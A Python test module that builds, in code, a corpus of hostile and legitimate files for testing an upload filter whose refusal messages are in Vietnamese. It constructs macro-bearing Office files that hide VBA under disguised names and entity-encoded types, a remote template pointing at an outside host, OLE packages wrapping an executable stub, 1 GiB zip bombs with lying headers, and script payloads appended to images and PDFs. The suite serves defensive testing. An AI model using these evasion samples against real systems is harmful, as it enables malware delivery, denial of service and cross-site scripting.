"""A corpus of hostile files (and of legitimate ones of every accepted type), made in code.

Nothing here is a committed binary: every file is built by the functions below, so the
corpus stays small in git and the large ones (the 1 GiB zip bomb is ~1 MB packed) are
made when a test asks for them. ``python -m tests.security.hostile DIR`` writes the
corpus into ``DIR`` for probing a running server by hand (curl, the browser).

Each hostile sample names the message fragment (Vietnamese, as users see it) its refusal
must carry. The tests in ``tests/security/test_hostile_corpus.py`` send every hostile file
through the web upload *and* the API and every legitimate file through both as well.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from tests.deploy import samples

OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
MACRO = "macro"
BOMB = "dung lượng bất thường"
ACTIVE = "mã trang web"
LINKED = "máy tính khác"
PACKAGE = "tệp hoặc chương trình"
DAMAGED = "bị hỏng"


@dataclass(frozen=True)
class Sample:
    id: str
    filename: str
    make: Callable[[], bytes]
    message: str = ""  # fragment of the refusal (hostile samples only)
    docx: bool = False  # a Word document: the template upload must refuse it too


# --- OLE2 / Compound File Binary (the container of .doc, .xls and vbaProject.bin) ----------

_FREE, _END, _FATSECT, _NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
_SECTOR = 512


def cfb(streams: dict[str, bytes]) -> bytes:
    """A valid version-3 compound file holding ``streams`` ("Storage/Sub/Stream" -> data).

    Every stream is padded to 4,096 bytes so it lives in regular sectors (no mini stream);
    storages are created from the paths. Readable by olefile, LibreOffice and Office.
    """
    entries: list[dict] = [{"name": "Root Entry", "type": 5, "children": [], "data": b""}]
    index_of: dict[tuple[str, ...], int] = {(): 0}
    for path, data in streams.items():
        parts = tuple(path.split("/"))
        for depth in range(1, len(parts) + 1):
            key = parts[:depth]
            if key in index_of:
                continue
            is_stream = depth == len(parts)
            entries.append(
                {
                    "name": parts[depth - 1],
                    "type": 2 if is_stream else 1,
                    "children": [],
                    "data": data.ljust(4096, b"\x00") if is_stream else b"",
                }
            )
            index_of[key] = len(entries) - 1
            entries[index_of[key[:-1]]]["children"].append(len(entries) - 1)
    # Sectors: 0 = FAT, then the directory, then each stream.
    dir_sectors = -(-len(entries) // 4)
    next_sector = 1 + dir_sectors
    fat = [_FATSECT] + [i + 2 if i + 1 < dir_sectors else _END for i in range(dir_sectors)]
    body = b""
    for entry in entries:
        if entry["type"] != 2:
            entry["start"], entry["size"] = (_END if entry["type"] == 5 else 0), 0
            continue
        count = -(-len(entry["data"]) // _SECTOR)
        entry["start"], entry["size"] = next_sector, len(entry["data"])
        fat += [next_sector + i + 1 if i + 1 < count else _END for i in range(count)]
        body += entry["data"].ljust(count * _SECTOR, b"\x00")
        next_sector += count
    assert len(fat) <= _SECTOR // 4, "the test CFB writer keeps one FAT sector"
    fat += [_FREE] * (_SECTOR // 4 - len(fat))
    directory = b""
    for entry in entries:
        # Children of a storage: the first is the storage's child, the rest hang off it as
        # right siblings (a valid, if unbalanced, tree; all nodes black).
        kids = entry["children"]
        entry["child"] = kids[0] if kids else _NOSTREAM
        for left, right in zip(kids, kids[1:], strict=False):
            entries[left]["right"] = right
    for entry in entries:
        name = entry["name"].encode("utf-16-le") + b"\x00\x00"
        directory += struct.pack(
            "<64sHBBIII16sIQQIQ",
            name,
            len(name),
            entry["type"],
            1,
            _NOSTREAM,
            entry.get("right", _NOSTREAM),
            entry["child"],
            b"\x00" * 16,
            0,
            0,
            0,
            entry["start"],
            entry["size"],
        )
    empty = struct.pack(
        "<64sHBBIII16sIQQIQ", b"", 0, 0, 0, _NOSTREAM, _NOSTREAM, _NOSTREAM, b"", 0, 0, 0, 0, 0
    )
    directory += empty * (dir_sectors * 4 - len(entries))
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII",
        OLE_MAGIC,
        b"\x00" * 16,
        0x3E,
        3,
        0xFFFE,
        9,
        6,
        b"\x00" * 6,
        0,
        1,
        1,
        0,
        4096,
        _END,
        0,
        _END,
        0,
    )
    header += struct.pack("<I", 0) + struct.pack("<I", _FREE) * 108
    return header + struct.pack(f"<{_SECTOR // 4}I", *fat) + directory + body


def vba_project() -> bytes:
    """What Word writes as word/vbaProject.bin: a compound file with a VBA storage."""
    return cfb(
        {
            "VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00",
            "VBA/dir": b"\x01\x00\x00\x00",
            "VBA/ThisDocument": b'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\nShell "calc"\r\nEnd Sub',
            "PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisDocument/&H00000000',
        }
    )


def word97(*, macros: bool = False) -> bytes:
    """An old binary Word .doc; ``macros`` adds the Macros/VBA storage Word keeps them in."""
    streams = {"WordDocument": b"\xec\xa5\xc1\x00" + "Báo cáo".encode("utf-16-le"), "1Table": b"\x00"}
    if macros:
        streams["Macros/VBA/_VBA_PROJECT"] = b"\xcc\x61\xff\xff"
        streams["Macros/VBA/dir"] = b"\x01"
        streams["Macros/PROJECT"] = b'ID="{0}"'
    return cfb(streams)


def excel97(*, macros: bool = False) -> bytes:
    streams = {"Workbook": b"\x09\x08\x10\x00\x00\x06\x05\x00" + b"\x00" * 12}
    if macros:
        streams["_VBA_PROJECT_CUR/VBA/_VBA_PROJECT"] = b"\xcc\x61\xff\xff"
        streams["_VBA_PROJECT_CUR/VBA/dir"] = b"\x01"
    return cfb(streams)


# --- Office Open XML, ODF --------------------------------------------------------------


def docx() -> bytes:
    from docx import Document
    from docx.shared import Mm

    document = Document()
    section = document.sections[0]
    section.page_width, section.page_height = Mm(210), Mm(297)
    section.top_margin, section.bottom_margin = Mm(20), Mm(20)
    section.left_margin, section.right_margin = Mm(30), Mm(15)
    document.add_paragraph("Báo cáo kết quả cải cách hành chính năm 2024")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def xlsx() -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active.append(["Mã", "Tên"])
    workbook.active.append(["1.1", "Ban hành kế hoạch"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def odf(mimetype: str = "application/vnd.oasis.opendocument.text") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", mimetype, compress_type=zipfile.ZIP_STORED)
        archive.writestr(
            "META-INF/manifest.xml",
            '<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:'
            'manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="'
            + mimetype
            + '"/></manifest:manifest>',
        )
        archive.writestr("content.xml", "<office:document-content/>")
    return buffer.getvalue()


def rewrite_zip(data: bytes, changes: dict[str, bytes | Callable[[bytes], bytes]]) -> bytes:
    """A copy of a zip with members replaced (bytes), edited (a function) or added."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            content = source.read(info.filename)
            change = changes.get(info.filename)
            if callable(change):
                content = change(content)
            elif change is not None:
                content = change
            target.writestr(info.filename, content)
        for name, change in changes.items():
            if name not in source.namelist() and not callable(change):
                target.writestr(name, change)
    return out.getvalue()


def _add_to_types(xml: bytes, element: str) -> bytes:
    return xml.replace(b"</Types>", element.encode() + b"</Types>")


def _add_relationship(xml: bytes, element: str) -> bytes:
    return xml.replace(b"</Relationships>", element.encode() + b"</Relationships>")


def docx_with_renamed_vba_project() -> bytes:
    """Finding 3: a VBA project stored as word/m.bin, its content type written with a
    character reference (``vba&#80;roject``), so neither the name nor the raw text says so."""
    return rewrite_zip(
        docx(),
        {
            "word/m.bin": vba_project(),
            "[Content_Types].xml": lambda xml: _add_to_types(
                xml,
                '<Override PartName="/word/m.bin" ContentType="application/vnd.ms-office.vba&#80;roject"/>',
            ),
            "word/_rels/document.xml.rels": lambda xml: _add_relationship(
                xml,
                '<Relationship Id="rIdM" Type="http://schemas.microsoft.com/office/2006/relationships/'
                'vbaProject" Target="m.bin"/>',
            ),
        },
    )


def docx_with_vba_under_an_innocent_name() -> bytes:
    """A VBA compound file as word/media/image9.png with no content type or relationship at all."""
    return rewrite_zip(docx(), {"word/media/image9.png": vba_project()})


def docm_declared_with_entities() -> bytes:
    """A part typed ``macroEnabled``, written as ``macro&#x45;nabled`` so the raw text never says so."""
    return rewrite_zip(
        docx(),
        {
            "[Content_Types].xml": lambda xml: _add_to_types(
                xml,
                '<Default Extension="dat" '
                'ContentType="application/vnd.ms-word.document.macro&#x45;nabled.main+xml"/>',
            ),
            "word/settings.dat": b"<w:settings/>",
        },
    )


def xlsx_with_renamed_vba_project() -> bytes:
    return rewrite_zip(xlsx(), {"xl/printerSettings1.bin": vba_project()})


def docx_with_remote_template() -> bytes:
    """Remote template injection: settings.xml.rels points the attached template at a server."""
    return rewrite_zip(
        docx(),
        {
            "word/_rels/settings.xml.rels": (
                b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
                b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
                b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://203.0.113.9/'
                b't.dotm" TargetMode="External"/></Relationships>'
            )
        },
    )


def docx_with_entity_expansion() -> bytes:
    """A DTD with entities in [Content_Types].xml: Office never writes one; a parser could be fooled."""
    return rewrite_zip(
        docx(),
        {
            "[Content_Types].xml": lambda xml: xml.replace(
                b"<Types", b'<!DOCTYPE Types [<!ENTITY v "vbaProject">]><Types', 1
            ).replace(
                b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.&v;"/></Types>'
            )
        },
    )


def docx_embedding_a_macro_workbook() -> bytes:
    """A docx whose embedded Excel workbook carries a VBA project (the macro runs when opened)."""
    inner = rewrite_zip(xlsx(), {"xl/vbaProject.bin": vba_project()})
    return rewrite_zip(docx(), {"word/embeddings/Microsoft_Excel_Worksheet.xlsx": inner})


def object_package() -> bytes:
    """An OLE "object package": a program wrapped inside a document (double-click runs it)."""
    return cfb({"\x01Ole10Native": b"\x00\x10\x00\x00\x02\x00setup.exe\x00C:\\setup.exe\x00" + b"MZ\x90\x00"})


def docx_with_object_package() -> bytes:
    return rewrite_zip(docx(), {"word/embeddings/oleObject1.bin": object_package()})


def word97_with_object_package() -> bytes:
    return cfb(
        {
            "WordDocument": b"\xec\xa5\xc1\x00",
            "1Table": b"\x00",
            "ObjectPool/_1234567890/\x01Ole10Native": b"setup.exe\x00MZ\x90\x00",
        }
    )


def docx_with_embedded_plain_ole_object() -> bytes:
    """Legitimate: an embedded old Excel sheet (an OLE object without macros)."""
    return rewrite_zip(docx(), {"word/embeddings/oleObject1.bin": excel97()})


# --- Zip bombs ---------------------------------------------------------------------------


def _deflate_zeros(megabytes: int) -> bytes:
    """Raw deflate of ``megabytes`` MiB of zeros in ~1 KB per MiB, without compressing them all:
    after a full flush the compressor's output for the same input repeats exactly."""
    block = bytes(1 << 20)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    middle = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    last = compressor.compress(block) + compressor.flush(zlib.Z_FINISH)
    return first + middle * (megabytes - 2) + last


def _zip_with_raw_members(members: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """A zip written by hand: (name, raw deflate data, declared size, declared crc, method)."""
    out = io.BytesIO()
    central = b""
    for name, raw, declared_size, crc, method in members:
        offset = out.tell()
        encoded = name.encode()
        out.write(
            struct.pack(
                "<4s5H3I2H", b"PK\x03\x04", 20, 0, method, 0, 0, crc, len(raw), declared_size, len(encoded), 0
            )
        )
        out.write(encoded + raw)
        central += (
            struct.pack(
                "<4s6H3I5H2I",
                b"PK\x01\x02",
                20,
                20,
                0,
                method,
                0,
                0,
                crc,
                len(raw),
                declared_size,
                len(encoded),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + encoded
        )
    start = out.tell()
    out.write(central)
    out.write(
        struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, len(members), len(members), len(central), start, 0)
    )
    return out.getvalue()


def docx_bomb_with_lying_headers() -> bytes:
    """Finding 3: headers declare 1,000 bytes; the member inflates to 1 GiB (~1 MB packed)."""
    content_types = (
        b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        b'wordprocessingml.document.main+xml"/></Types>'
    )
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed_types = compressor.compress(content_types) + compressor.flush()
    return _zip_with_raw_members(
        [
            ("[Content_Types].xml", packed_types, len(content_types), zlib.crc32(content_types), 8),
            ("word/document.xml", _deflate_zeros(1024), 1000, 0, 8),
        ]
    )


def xlsx_bomb_with_lying_headers() -> bytes:
    return _zip_with_raw_members(
        [
            ("[Content_Types].xml", zlib.compress(b"<Types/>")[2:-4], 8, zlib.crc32(b"<Types/>"), 8),
            ("xl/workbook.xml", _deflate_zeros(1024), 1000, 0, 8),
        ]
    )


# --- Images and PDF with markup --------------------------------------------------------------


def jpeg(trailer: bytes = b"") -> bytes:
    """A minimal JFIF header and end marker (libmagic: image/jpeg)."""
    return (
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
        + b"\x00" * 200
        + b"\xff\xd9"
        + trailer
    )


def png_with_img_onerror() -> bytes:
    """Finding 3: a valid PNG with ``<img src=x onerror=…>`` appended."""
    return samples.png(trailer=b"<img src=x onerror=alert(document.domain)>")


def png_with_markup_deep_inside() -> bytes:
    """Markup after 3 MB of image data: only a whole-file scan finds it."""
    return samples.png(trailer=b"\x00" * (3 * 1024 * 1024) + b"<ScRiPt>fetch('/api/v1/units')</sCrIpT>")


def pdf_with_html_script() -> bytes:
    """Finding 3: a valid PDF with ``<html><script>`` appended."""
    return samples.pdf() + b"<html><script>alert(document.cookie)</script></html>"


def jpeg_with_svg_onload() -> bytes:
    return jpeg(trailer=b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')


def pdf_with_javascript_url() -> bytes:
    return samples.pdf() + b'<a href="javascript:alert(1)">x</a>'


HOSTILE = [
    Sample("png-img-onerror", "ảnh chụp.png", png_with_img_onerror, ACTIVE),
    Sample("png-script-after-3mb", "ảnh lớn.png", png_with_markup_deep_inside, ACTIVE),
    Sample("pdf-html-script", "Quyết định.pdf", pdf_with_html_script, ACTIVE),
    Sample("pdf-javascript-url", "Tờ trình.pdf", pdf_with_javascript_url, ACTIVE),
    Sample("jpeg-svg-onload", "scan.jpg", jpeg_with_svg_onload, ACTIVE),
    Sample("docx-vba-renamed-entity-type", "Báo cáo.docx", docx_with_renamed_vba_project, MACRO, docx=True),
    Sample("docx-vba-as-image", "Báo cáo.docx", docx_with_vba_under_an_innocent_name, MACRO, docx=True),
    Sample("docx-macro-enabled-entities", "Báo cáo.docx", docm_declared_with_entities, MACRO, docx=True),
    Sample("docx-embedded-macro-workbook", "Báo cáo.docx", docx_embedding_a_macro_workbook, MACRO, docx=True),
    Sample("docx-object-package", "Báo cáo.docx", docx_with_object_package, PACKAGE, docx=True),
    Sample("doc-object-package", "Công văn.doc", word97_with_object_package, PACKAGE),
    Sample("docx-remote-template", "Báo cáo.docx", docx_with_remote_template, LINKED, docx=True),
    Sample("docx-dtd-entities", "Báo cáo.docx", docx_with_entity_expansion, DAMAGED, docx=True),
    Sample("xlsx-vba-renamed", "Bảng điểm.xlsx", xlsx_with_renamed_vba_project, MACRO),
    Sample("doc-with-vba-storage", "Công văn.doc", lambda: word97(macros=True), MACRO),
    Sample("xls-with-vba-storage", "Bảng.xls", lambda: excel97(macros=True), MACRO),
    Sample("docx-bomb-lying-headers", "Báo cáo.docx", docx_bomb_with_lying_headers, BOMB, docx=True),
    Sample("xlsx-bomb-lying-headers", "Bảng điểm.xlsx", xlsx_bomb_with_lying_headers, BOMB),
]

LEGITIMATE = [
    Sample("pdf", "Báo cáo.pdf", samples.pdf),
    Sample("png", "ảnh.png", samples.png),
    Sample("jpeg", "scan.jpg", jpeg),
    Sample("docx", "Báo cáo.docx", docx),
    Sample("docx-with-embedded-excel-object", "Báo cáo có bảng.docx", docx_with_embedded_plain_ole_object),
    Sample("xlsx", "Bảng điểm.xlsx", xlsx),
    Sample("odt", "Văn bản.odt", odf),
    Sample("ods", "Bảng.ods", lambda: odf("application/vnd.oasis.opendocument.spreadsheet")),
    Sample("doc", "Công văn.doc", word97),
    Sample("xls", "Bảng.xls", excel97),
]


def write(directory) -> list[str]:
    """Write the corpus (hostile/ and legitimate/) into ``directory``; returns the paths."""
    from pathlib import Path

    written = []
    for kind, group in (("hostile", HOSTILE), ("legitimate", LEGITIMATE)):
        folder = Path(directory) / kind
        folder.mkdir(parents=True, exist_ok=True)
        for sample in group:
            suffix = sample.filename.rsplit(".", 1)[-1]
            path = folder / f"{sample.id}.{suffix}"
            path.write_bytes(sample.make())
            written.append(str(path))
    return written
